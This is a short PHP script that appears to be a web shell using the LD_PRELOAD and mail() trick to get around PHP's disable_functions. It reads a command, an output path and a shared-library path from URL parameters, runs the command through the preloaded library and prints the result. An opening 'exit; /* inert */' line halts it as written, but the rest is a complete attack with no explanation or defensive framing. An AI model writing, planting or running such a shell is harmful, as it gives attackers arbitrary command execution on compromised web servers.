<?php exit; /* inert */ 
$cmd = $_GET['cmd']; $out = $_GET['outpath']; $so = $_GET['sopath'];
putenv("EVIL_CMDLINE=" . $cmd . " > " . $out . " 2>&1");
putenv("LD_PRELOAD=" . $so);
mail("", "", "", "");
echo nl2br(file_get_contents($out)); unlink($out);
